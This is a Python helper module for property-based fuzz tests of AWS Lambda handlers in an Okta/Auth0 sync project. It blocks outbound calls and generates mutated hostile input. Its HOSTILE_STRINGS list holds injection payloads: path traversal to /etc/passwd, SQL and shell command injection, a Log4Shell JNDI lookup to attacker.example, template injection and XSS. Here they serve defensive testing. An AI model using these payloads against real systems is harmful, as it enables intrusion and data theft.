"""What the fuzz suites share: loading a handler as Lambda would, a Lambda context, the guard that
makes every outbound call impossible, and the strategies of hostile input.

Outbound calls: :func:`no_outbound` makes every AWS API call (botocore's one entry point) and every
HTTP request (requests' transport) raise :class:`OutboundAttempt`. It is a ``BaseException`` on
purpose: no ``except Exception`` in the code under test can swallow it, so a handler that reaches
the network or AWS shows it, and the suites assert that only valid inputs ever get that far.
"""

from __future__ import annotations

import contextlib
import copy
import functools
import importlib.util
import itertools
import json
import math
import random
import string
from collections.abc import Iterator
from datetime import UTC, datetime
from pathlib import Path
from types import ModuleType
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

ROOT = Path(__file__).resolve().parents[2]
REGION, ACCOUNT = "us-east-1", "123456789012"
_copies = itertools.count()


class Context:
    """What the handlers (and Powertools) read from a Lambda context."""

    def __init__(self, function_name: str = "FuzzFunction") -> None:
        self.function_name = function_name
        self.function_version = "$LATEST"
        self.memory_limit_in_mb = 512
        self.invoked_function_arn = f"arn:aws:lambda:{REGION}:{ACCOUNT}:function:{function_name}"
        self.aws_request_id = "0f1c2f9e-8a7b-4c1d-9e2f-0a1b2c3d4e5f"
        self.log_group_name = f"/aws/lambda/{function_name}"
        self.log_stream_name = "2026/11/22/[$LATEST]0123456789abcdef"

    def get_remaining_time_in_millis(self) -> int:
        return 30_000


def load_handler(name: str) -> ModuleType:
    """A fresh copy of ``functions/<name>/app.py`` (its own module globals), in a new container."""
    from okta_auth0_sync.base import container

    container.new_container()
    path = ROOT / "functions" / name / "app.py"
    spec = importlib.util.spec_from_file_location(f"fuzz_handler_{name}_{next(_copies)}", path)
    assert spec is not None and spec.loader is not None
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module


def note(message: str) -> None:
    """``hypothesis.note`` in a @given test (printed with a failing example); nothing elsewhere."""
    from hypothesis import note as hypothesis_note
    from hypothesis.errors import InvalidArgument

    with contextlib.suppress(InvalidArgument):
        hypothesis_note(message)


def sample(name: str) -> dict[str, Any]:
    """A sample event of ``events/<name>.json`` (the valid input each suite mutates), a fresh copy."""
    return copy.deepcopy(_sample(name))


@functools.cache
def _sample(name: str) -> dict[str, Any]:
    return json.loads((ROOT / "events" / f"{name}.json").read_text())


# ------------------------------------------------------------------------------- outbound calls
class OutboundAttempt(BaseException):
    """The code under test tried to call AWS or a tenant."""


class Outbound:
    """Every outbound attempt since :meth:`clear` (``"aws:<Operation>"``, ``"http:<METHOD> <url>"``)."""

    def __init__(self) -> None:
        self.attempts: list[str] = []

    def clear(self) -> None:
        self.attempts.clear()

    def refuse(self, what: str) -> None:
        self.attempts.append(what)
        raise OutboundAttempt(what)


@pytest.fixture(scope="module")
def no_outbound() -> Iterator[Outbound]:
    """For the module: no AWS call, no HTTP request; each attempt recorded, then refused."""
    import botocore.client
    import requests.adapters

    outbound = Outbound()
    mp = pytest.MonkeyPatch()
    mp.setattr(
        botocore.client.BaseClient,
        "_make_api_call",
        lambda self, operation, params: outbound.refuse(f"aws:{operation}"),
    )
    mp.setattr(
        requests.adapters.HTTPAdapter,
        "send",
        lambda self, request, *args, **kwargs: outbound.refuse(f"http:{request.method} {request.url}"),
    )
    try:
        yield outbound
    finally:
        mp.undo()


@pytest.fixture(scope="module")
def module_env() -> Iterator[pytest.MonkeyPatch]:
    """A module-scoped ``monkeypatch`` (the suites set the template's environment once per module)."""
    mp = pytest.MonkeyPatch()
    try:
        yield mp
    finally:
        mp.undo()


# ----------------------------------------------------------------------------------- strategies
# ``@given_data``: a test that draws from a strategy that depends on its parameters.
given_data = given(data=st.data())

HOSTILE_STRINGS = [
    "",
    " ",
    "\t\n",
    "me",
    "ME",
    "null",
    "true",
    "0",
    "-1",
    "1e309",
    "NaN",
    "../../etc/passwd",
    "..%2f..%2fadmin",
    "%00",
    "a\x00b",
    "00u1\n",
    "00u1\r\nX-Injected: 1",
    "' OR '1'='1",
    "'; DROP TABLE users; --",
    "$(touch /tmp/pwned)",
    "`id`",
    "${jndi:ldap://attacker.example/a}",
    "{{7*7}}",
    "<script>alert(1)</script>",
    '{"$ne": null}',
    "arn:aws:states:us-east-1:123456789012:stateMachine:Other",
    "*",
    "\u202e00u1",
    "\u200b",
    "\ufeff",
    "\uff10\uff4f\uff41\uff11",  # fullwidth "0oa1"
    "\U0001d54f" * 3,  # mathematical double-struck X
    "\ud800",
    "\udcff",
    "2024-05-02T09:14:01.862Z\x00",
    "2024-05-02T09:14:01.862Z\x07",
    "9999-12-31T23:59:59.999Z",
    "0001-01-01T00:00:00Z",
    "eyJhbGciOiJub25lIn0.eyJzdWIiOiJ4In0.",
    "x" * 1024,
]
hostile_strings = st.sampled_from(HOSTILE_STRINGS) | st.sampled_from([70_000, 262_144]).map(lambda n: "y" * n)
# Text and scalars are drawn from pools made once (seeded, so every run has the same pools): one
# draw per value instead of one per character, because generating data is most of a fuzz run's time
# (Hypothesis' own text strategy costs a filtered draw per character). The strings are made of
# characters chosen to break things: ASCII, quotes and escapes, control characters, NUL, line and
# paragraph separators, zero-width and direction marks, a BOM, combining marks, fullwidth and
# non-Latin letters and digits, astral characters.
CHARACTERS = (
    string.ascii_letters
    + string.digits
    + string.punctuation
    + " \t\n\r\x00\x01\x1b\x7f\x85\xa0\xad\xe9\xff"
    + "\u0130\u0131\u0301\u05d0\u0660\u0663\u06f1\u0e51\u200b\u200d\u200e\u202e\u2028\u2029"
    + "\u2044\u2215\u3000\ufeff\uff0f\uff10\uff41\ufffd\U0001d54f\U0001f600"
)
EDGE_NUMBERS = [0, -0.0, 1, -1, 2**31, -(2**31) - 1, 2**53 + 1, 2**63, -(2**64), 10**30, 0.5, 1e-310, 1.79e308]


def _pools(size: int = 2_000) -> tuple[list[str], list[Any]]:
    rng = random.Random(20261122)  # test data, not a secret
    strings = [""] + ["".join(rng.choices(CHARACTERS, k=rng.choice([1, 2, 3, 5, 8, 13, 24]))) for _ in range(size)]
    numbers = [
        rng.choice([rng.randint(-(2**63), 2**63), rng.randint(-1000, 1000), rng.uniform(-1e12, 1e12), rng.random()])
        for _ in range(size // 4)
    ]
    return strings, [None, True, False, *EDGE_NUMBERS, math.inf, -math.inf, math.nan, *numbers]


STRINGS, SCALARS = _pools()
texts = st.sampled_from(HOSTILE_STRINGS) | st.sampled_from(STRINGS)
json_scalars = st.sampled_from(SCALARS) | texts | st.integers()
json_values = st.recursive(
    json_scalars,
    lambda children: st.lists(children, max_size=4) | st.dictionaries(texts, children, max_size=4),
    max_leaves=6,
)


def nested(depth: int, leaf: Any = None, kind: str = "list") -> Any:
    """``leaf`` inside ``depth`` lists (or objects), built without recursion."""
    value = leaf
    for _ in range(depth):
        value = [value] if kind == "list" else {"a": value}
    return value


deep_values = st.builds(
    nested, st.integers(min_value=1, max_value=2_000), json_scalars, st.sampled_from(["list", "object"])
)


def _huge(kind: str) -> Any:
    """A fresh huge value (built on each draw: the suites mutate what they draw)."""
    return {
        "text": lambda: "z" * 300_000,
        "list": lambda: ["00u1"] * 20_000,
        "object": lambda: {f"k{i}": i for i in range(5_000)},
        "number": lambda: 10**400,
    }[kind]()


huge_values = st.sampled_from(["text", "list", "object", "number"]).map(_huge)
any_value = json_values | hostile_strings | deep_values | huge_values

ALNUM = string.ascii_letters + string.digits


def paths(value: Any, prefix: tuple = (), *, width: int = 8, depth: int = 12) -> Iterator[tuple]:
    """Paths into ``value`` (the root is ``()``): into the first ``width`` members of each
    container, at most ``depth`` deep (huge and deep values stay cheap to mutate)."""
    yield prefix
    if len(prefix) >= depth:
        return
    if isinstance(value, dict):
        for key, child in itertools.islice(value.items(), width):
            yield from paths(child, (*prefix, key), width=width, depth=depth)
    elif isinstance(value, list):
        for index, child in enumerate(value[:width]):
            yield from paths(child, (*prefix, index), width=width, depth=depth)


def _parent(doc: Any, path: tuple) -> Any:
    for part in path[:-1]:
        doc = doc[part]
    return doc


def to_json(value: Any) -> str:
    """``value`` as JSON text; a value nested too deep for the encoder is sent as deep text instead."""
    try:
        return json.dumps(value, default=str)
    except RecursionError:
        return "[" * 1_500 + "null" + "]" * 1_500


def _stringified(value: Any) -> str:
    """``value`` as the JSON text a careless caller would send in its place (a string + newline as is)."""
    if isinstance(value, str):
        return value + "\n"
    try:
        return json.dumps(value)
    except RecursionError:  # a deep value: its first kilobyte, as text
        return "[" * 1000


def mutate(draw: st.DrawFn, original: Any, values: st.SearchStrategy[Any] = any_value) -> Any:
    """``original`` with one to three changes: a value replaced (any type, hostile, deep, huge), a
    member deleted, renamed or added, a value wrapped in a list, or made a string."""
    doc = copy.deepcopy(original)
    for _ in range(draw(st.integers(min_value=1, max_value=3))):
        path = draw(st.sampled_from(list(paths(doc))))
        operation = draw(st.sampled_from(["replace", "replace", "delete", "rename", "add", "wrap", "stringify"]))
        if not path:
            doc = draw(values) if operation != "wrap" else [doc]
            continue
        parent, key = _parent(doc, path), path[-1]
        if operation == "replace":
            parent[key] = draw(values)
        elif operation == "delete":
            if isinstance(parent, dict):
                del parent[key]
            else:
                parent.pop(key)
        elif operation == "rename" and isinstance(parent, dict):
            renamed = draw(st.sampled_from([str(key).upper(), f" {key}", f"{key}\x00", str(key).title()]))
            parent[renamed] = parent.pop(key)
        elif operation == "add" and isinstance(parent, dict):
            parent[draw(texts)] = draw(values)
        elif operation == "wrap":
            parent[key] = [parent[key]]
        elif operation == "stringify":
            parent[key] = _stringified(parent[key])
    return doc


@st.composite
def mutations(draw: st.DrawFn, original: Any, values: st.SearchStrategy[Any] = any_value) -> Any:
    """:func:`mutate` as a strategy: near-valid variants of ``original``."""
    return mutate(draw, original, values)


@st.composite
def mutated(draw: st.DrawFn, valid: st.SearchStrategy[Any]) -> Any:
    """A value of ``valid``, mutated (cheaper than ``valid.flatmap(mutations)``)."""
    return mutate(draw, draw(valid))


def _digits(number: int, alphabet: str, length: int) -> str:
    """``number`` written in base ``len(alphabet)`` with exactly ``length`` digits."""
    out = []
    for _ in range(length):
        number, digit = divmod(number, len(alphabet))
        out.append(alphabet[digit])
    return "".join(out)


def ids(prefix: str, length: int, alphabet: str = ALNUM) -> st.SearchStrategy[str]:
    """``prefix`` and ``length`` characters of ``alphabet``, from one integer draw (drawing a
    string character by character costs far more, and an integer shrinks as well)."""
    return st.integers(min_value=0, max_value=len(alphabet) ** length - 1).map(
        lambda n: prefix + _digits(n, alphabet, length)
    )


def okta_ids(prefix: str = "00u") -> st.SearchStrategy[str]:
    """Okta object ids as Okta makes them: a 3-character prefix and 17 more, letters and digits."""
    return ids(prefix, 17)


role_ids = ids("rol_", 16)
group_ids = okta_ids("00g")
# Step Functions execution names: 1-80 of letters, digits, "_", "." and "-" (it refuses ":" and "/").
execution_names = st.integers(min_value=1, max_value=80).flatmap(lambda n: ids("", n, ALNUM + "_.-"))
# RFC 3339 times as Okta and Step Functions write them (``2024-05-02T09:14:01.862Z``), years 1-9999.
iso_times = st.integers(min_value=-62135596800000, max_value=253402300799999).map(
    lambda ms: datetime.fromtimestamp(ms / 1000, UTC).isoformat(timespec="milliseconds").replace("+00:00", "Z")
)
